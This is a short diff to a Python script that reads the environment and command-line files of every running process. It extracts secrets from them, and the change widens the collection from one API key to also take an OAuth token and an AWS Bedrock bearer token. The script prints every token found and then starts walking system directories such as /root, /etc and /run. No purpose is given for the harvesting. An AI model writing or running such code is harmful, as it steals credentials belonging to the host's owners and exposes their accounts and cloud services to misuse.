@@ -331,7 +331,9 @@ for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
     try: text = open(name, "rb").read()
     except OSError: continue
     if key in text: found.append(name)
-    tokens |= {v[18:].decode() for v in text.split(b"\0") if v.startswith(b"ANTHROPIC_API_KEY=")}
+    for v in text.split(b"\0"):
+        name, _, value = v.partition(b"=")
+        if name in (b"ANTHROPIC_API_KEY", b"CLAUDE_CODE_OAUTH_TOKEN", b"AWS_BEARER_TOKEN_BEDROCK"): tokens.add(value.decode())
 print("token", *tokens)
 for top in ["/home", "/root", "/tmp", "/mnt", "/run", "/workspace", "/etc", "/var", "/dev/shm"]:
     for dir, _, files in os.walk(top):
